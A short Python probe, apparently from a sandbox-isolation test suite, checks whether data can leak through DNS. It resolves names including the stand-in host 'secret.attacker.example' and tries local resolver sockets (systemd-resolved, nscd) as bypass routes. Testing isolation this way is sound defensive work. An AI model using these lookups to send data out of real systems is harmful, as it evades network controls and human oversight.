# attack: carry data out in the names that are asked for
# success: a name of the outside resolves
import socket
from support.raw import attempt

socket.setdefaulttimeout(0.3)
for name in ("example.com", "secret.attacker.example", "localhost.localdomain"):
    attempt(name, lambda: socket.getaddrinfo(name, 80))
for path in ("/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/var/run/nscd/socket"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path) or True)
